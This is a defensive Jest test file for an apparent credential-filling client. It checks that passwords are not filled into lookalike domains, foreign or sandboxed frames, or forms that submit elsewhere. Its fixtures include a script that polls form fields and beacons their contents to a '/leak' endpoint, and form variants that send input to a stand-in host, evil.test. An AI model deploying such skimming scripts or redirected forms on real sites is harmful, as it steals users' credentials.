import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { startBrowserClient, type BrowserClient } from './client.js';

// Where a credential does not belong not one character of it comes, whatever the page does.

let client: BrowserClient;
beforeAll(async () => {
  client = await startBrowserClient();
  await client.open();
});
afterAll(() => client.close());

const FORM = `<form action="/in" method="post"><input name="user" autocomplete="username">
<input type="password" name="secret"><button>Go</button></form>`;
// Tells its host of all that stands in its fields, again and again.
const SPY = `${FORM}<script>setInterval(() => {
  const said = [...document.querySelectorAll('input')].map(({ value }) => value).join('');
  if (said) navigator.sendBeacon('/leak', said);
}, 5)</script>`;

let secret = '';
beforeEach(() => {
  secret = randomBytes(12).toString('hex');
  for (const host of HOSTS) client.sites.page(host, '/form', SPY);
});

const HOSTS = ['evil.test', 'evilsite.test', 'site.test.evil.test', 'login.site.test', 'site.test'];
const at = (host: string, path: string) => `https://${host}:${client.sites.port}${path}`;
const frame = (src: string, more = '') =>
  `<iframe width="400" height="300" src="${src}" ${more}></iframe>`;
const leaked = (home: string) =>
  HOSTS.filter((host) => host !== home).filter((host) =>
    client.sites.received(host).some((said) => said.includes(secret)),
  );
/** Puts a page at a host, goes there and uses a credential. */
async function useAt(host: string, html: string, given: object = {}, more: object = {}) {
  client.sites.page(host.toLowerCase(), '/page', html);
  await client.goto(at(host, '/page'));
  return client.use({ value: secret, ...given }, more);
}
/** Time for whatever the page still does. */
const settle = () => client.act({ action: 'wait', seconds: 1 });

interface Case {
  readonly host?: string;
  readonly html?: (port: number) => string;
  readonly given?: object;
}

const evil = (port: number) => `https://evil.test:${port}`;
const REFUSED: Readonly<Record<string, Case>> = {
  'a sibling': { host: 'login.site.test', given: { service: 'www.site.test' } },
  'a name below': { host: 'login.site.test' },
  'the name above': { host: 'site.test', given: { service: 'login.site.test' } },
  'a name that ends alike': { host: 'evilsite.test' },
  'a name that begins alike': { host: 'site.test.evil.test' },
  'a name that looks alike': { host: 'xn--ste-1ma.test' },
  'another port': { given: { service: 'site.test:444' } },
  'another port of an origin': {
    given: { service: 'x.test', origins: ['https://site.test:8443'] },
  },
  'all below, at another port than 443': {
    host: 'login.site.test',
    given: { service: 'x.test', origins: ['*.site.test'] },
  },
  'the name itself, where all below is meant': {
    given: { service: 'x.test', origins: ['*.site.test'] },
  },
  'any site, where the service is none': { given: { service: 'My bank' } },
  'a site without TLS by its name': { given: { service: 'http://site.test' } },
  'a frame of another site': { html: (port) => frame(`${evil(port)}/form`) },
  'its site in a frame of another': {
    host: 'evil.test',
    html: (port) => frame(`https://site.test:${port}/form`),
  },
  'a sandboxed frame': { html: () => frame('/form', 'sandbox="allow-scripts allow-forms"') },
  'a sandboxed frame with its text': {
    html: () =>
      `<iframe sandbox="allow-scripts" width="400" height="300" srcdoc='${FORM}'></iframe>`,
  },
  'a frame of data': {
    html: () => frame(`data:text/html,${encodeURIComponent(FORM)}`),
  },
  'a frame of a blob without an origin': {
    html: () => `<script>
addEventListener('DOMContentLoaded', () => {
  const inner = document.createElement('iframe');
  inner.sandbox = 'allow-scripts';
  inner.width = 400; inner.height = 300;
  inner.src = URL.createObjectURL(new Blob([${JSON.stringify(FORM)}], { type: 'text/html' }));
  document.body.append(inner);
});</script>`,
  },
  'a form that goes elsewhere': { html: (port) => FORM.replace('/in', `${evil(port)}/in`) },
  'a form that goes to a sibling': {
    html: (port) => FORM.replace('/in', `https://login.site.test:${port}/in`),
  },
  'a form without TLS': { html: () => FORM.replace('/in', 'http://site.test/in') },
  'a form that sends mail': { html: () => FORM.replace('/in', 'mailto:eve@evil.test') },
  'a base elsewhere': {
    html: (port) => `<base href="${evil(port)}/">${FORM.replace('/in', 'in')}`,
  },
  'a button that goes elsewhere': {
    html: (port) => FORM.replace('<button', `<button formaction="${evil(port)}/x"`),
  },
  'an image button that goes elsewhere': {
    html: (port) => `${FORM.replace('</form>', '')}
<input type="submit" formaction="${evil(port)}/x"></form>`,
  },
  'a button outside of the form that goes elsewhere': {
    html: (port) =>
      `${FORM.replace('<form', '<form id="f"')}<button form="f" formaction="${evil(port)}/x">Go</button>`,
  },
  'a field that belongs to another form': {
    html: (port) => `<form id="other" action="${evil(port)}/in"></form>
<input name="user" autocomplete="username"><input type="password" name="secret" form="other">`,
  },
  'a form that hides its action by a field': {
    html: (port) =>
      FORM.replace('/in', `${evil(port)}/in`).replace(
        'name="user"',
        'name="action" autocomplete="username"',
      ),
  },
  'a form that changes its action while it is filled': {
    html: (port) => `${FORM}<script>
document.querySelector('[name=user]').addEventListener('input', () => {
  document.forms[0].action = '${evil(port)}/in';
});</script>`,
  },
  'a page in front of its site': {
    html: (port) => `${FORM}<script>window.open('${evil(port)}/form')</script>`,
    host: 'evil.test',
  },
};

describe('A credential is not filled into', () => {
  it.each(Object.entries(REFUSED))('%s', async (_name, { host = 'site.test', html, given }) => {
    const { port } = client.sites;
    const { status, body } = await useAt(host, html?.(port) ?? SPY, given);
    expect([status, body.used]).toEqual([403, undefined]);
    await client.act({ action: 'click', selector: 'button', seconds: 1 });
    await settle();
    const home = host === 'login.site.test' ? 'none' : 'site.test';
    expect(leaked(home)).toEqual([]);
    expect(client.sites.received('site.test').join()).not.toContain(secret);
  });
});

describe('A credential is filled into', () => {
  it.each<[string, string, Case]>([
    ['its site, in capitals', 'SITE.test', {}],
    ['its twin', 'www.site.test', {}],
    ['a frame of its own site', 'site.test', { html: () => frame('/form') }],
    [
      'a frame with its text',
      'site.test',
      { html: () => `<iframe width="400" height="300" srcdoc='${FORM}'></iframe>` },
    ],
    ['a form of a script', 'site.test', { html: () => FORM.replace('/in', 'javascript:void 0') }],
  ])('%s', async (_name, host, { html }) => {
    const { status, body } = await useAt(host, html?.(client.sites.port) ?? FORM);
    expect([status, body.error]).toEqual([200, undefined]);
  });
});

describe('A page that leaves in the middle', () => {
  it('takes nothing along', async () => {
    for (let ms = 0; ms < 60; ms += 3) {
      const leave = `<script>setTimeout(() => { location = '${at('evil.test', '/form')}'; }, ${ms})</script>`;
      await useAt('site.test', FORM + leave);
      await settle();
      expect(leaked('site.test')).toEqual([]);
    }
  });

  it('at the first character takes nothing along either', async () => {
    const leave = `<script>document.querySelector('[name=user]').addEventListener('input', () => {
      location = '${at('evil.test', '/form')}';
    });</script>`;
    await useAt('site.test', FORM + leave);
    await settle();
    expect(leaked('site.test')).toEqual([]);
  });

  it('and puts another field in its place has that judged', async () => {
    const swap = `<script>document.querySelector('[name=user]').addEventListener('input', () => {
      document.querySelector('[type=password]').type = 'text';
    });</script>`;
    const { status } = await useAt('site.test', FORM + swap);
    expect(status).toBe(409);
    expect(client.sites.received('site.test').join()).not.toContain(secret);
  });
});
